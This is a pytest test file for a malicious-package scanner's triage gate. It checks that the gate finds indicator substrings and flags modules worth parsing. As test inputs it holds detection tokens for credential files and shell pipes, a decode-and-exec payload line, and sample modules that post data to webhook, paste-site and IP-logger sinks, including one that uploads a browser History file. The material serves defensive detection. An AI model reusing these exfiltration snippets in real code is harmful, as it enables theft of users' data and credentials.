"""Triage: the one-pass gate finds exactly the substrings the checks look for, and a file is
parsed only where a check passes."""

from __future__ import annotations

import random

import pytest

from pipgate.proxy.scan import indicators, triage

TOKENS = sorted({token for tokens, _ in triage._TRIAGE for token in tokens})


def _brute(lower: bytes) -> set[bytes]:
    return {token for token in TOKENS if token in lower}


@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"nothing to see here\n" * 100,
        b".exec(x) and exec(y)",  # two substrings found at the same byte
        b"webhooks.slack hooks.slack.com",  # one ends where another begins
        b"x = '| sh' + \"tdata\" + '/tdata' + 'pastebin' + 'paste.ee'",
        b"b64decode base64 -d 2no.co dup2 chmod +x " * 3,
        b"|sh|sh|sh",
    ],
)
def test_gate_finds_exactly_the_substrings_present(text: bytes) -> None:
    assert triage._present(text.lower()) == _brute(text.lower())


def test_gate_finds_substrings_across_its_windows() -> None:
    # Each substring placed to straddle a window's end, and a file of nothing but matches.
    for token in (b"pastebin", b"secret_access_key", b"|sh"):
        for shift in range(len(token)):
            text = b"x" * (triage._WINDOW - shift) + token + b"y" * 10
            assert token in triage._present(text), (token, shift)
    text = b"f.write(x)\n" * (3 * triage._WINDOW // 11) + b"url = 'https://pastebin.com/raw/x'"
    assert triage._present(text) == _brute(text) == {b".write(", b"pastebin"}


def test_gate_agrees_with_substring_tests_on_random_mixtures() -> None:
    pieces = [*TOKENS, b" ", b"x", b"(", b".", b"/", b"\n", b"ab", b"eval", b"hook"]
    rng = random.Random(14)
    for _ in range(300):
        text = b"".join(rng.choice(pieces) for _ in range(rng.randrange(1, 40)))
        assert triage._present(text) == _brute(text), text


@pytest.mark.parametrize(
    ("source", "worth"),
    [
        (b"import base64\nexec(base64.b64decode(PAYLOAD))\n", True),
        (b"URL = 'https://discord.com/api/webhooks/1/abc'\n", True),
        (b"import base64, torch\ndata = base64.b64decode(s)\nmodel.eval()\n", False),
        (b"# a copy-paste helper for the clipboard-less terminal\nx = 1\n", False),
        (b"def run(cursor):\n    cursor.execute('select 1')\n", False),
        (b"PATH = 'C:/tools/app.exe'\n", False),  # a program named, nothing fetched or run
        (b"def f():\n    return a | shared\n", False),  # a pipe, not into a shell
    ],
    ids=["decode-exec", "sink", "model.eval", "paste", "execute", "exe named", "pipe"],
)
def test_worth_parsing(source: bytes, worth: bool) -> None:
    assert triage.worth_parsing(source) is worth


#: One address of each sink category (``indicators.SINKS``, ``IP_LOGGER``): triage gates on
#: the patterns' own anchors, and must let each through.
SINK_EXAMPLES = [
    "https://discord.com/api/webhooks/123456789012345678/abcdef",
    "https://api.telegram.org/bot123456789:AAabc/sendMessage",
    "https://hooks.slack.com/services/T000/B000/XXXX",
    "https://pastebin.com/raw/abcd1234",
    "https://f004.backblazeb2.com/file/bucket/u.exe",
    "https://script.google.com/macros/s/abc/exec",
    "https://x1y2z3.requestrepo.com/",
    "tcp://a1b2.a.pinggy.link:40123",
    "https://quiet-api.someone.workers.dev/c",
    "https://quiet.eu-gb.mybluemix.appdomain.cloud/c",
    "quietbox.duckdns.org",
    "https://iplogger.org/abc",
]


@pytest.mark.parametrize("address", SINK_EXAMPLES)
def test_a_module_that_sends_to_a_sink_is_parsed(address: str) -> None:
    assert any(
        i.search(address, address.lower())
        for i in (*indicators.SINKS.values(), indicators.IP_LOGGER)
    )
    module = f"import requests\ndef send(data):\n    requests.post({address!r}, data=data)\n"
    assert triage.worth_parsing(module.encode())


def test_triage_gates_on_every_anchor_of_the_sink_patterns() -> None:
    anchors = {
        a.encode() for i in (*indicators.SINKS.values(), indicators.IP_LOGGER) for a in i.anchors
    }
    gated = {token for tokens, _ in triage._TRIAGE for token in tokens}
    assert anchors <= gated
    assert all(anchor == anchor.lower() for anchor in anchors)


def test_only_the_indicators_whose_anchors_occur_are_searched() -> None:
    found = triage._CREDENTIALS.candidates(b"p = '~/.aws/credentials'; q = 'local state'")
    names = {n for n, (_, i) in indicators.CREDENTIALS.items() if i in found}
    assert "ssh or cloud key" in names
    assert "shell history or secrets file" not in names
    assert triage._CREDENTIALS.candidates(b"x = 1\n") == []


def test_a_browser_history_given_in_pieces_still_reaches_the_store_search() -> None:
    # The anchor `\x00history` exists only once the pieces are joined; the pass over the
    # bytes asks for `history`, which they hold.
    data = (
        b"import os, requests\n"
        b"p = os.path.join(base, 'Default', 'History')\n"
        b"requests.post('https://example.net/u', files={'f': open(p, 'rb')})\n"
    )
    assert triage.worth_parsing(data)
    assert not triage.worth_parsing(data.replace(b"'History'", b"'Histories'"))
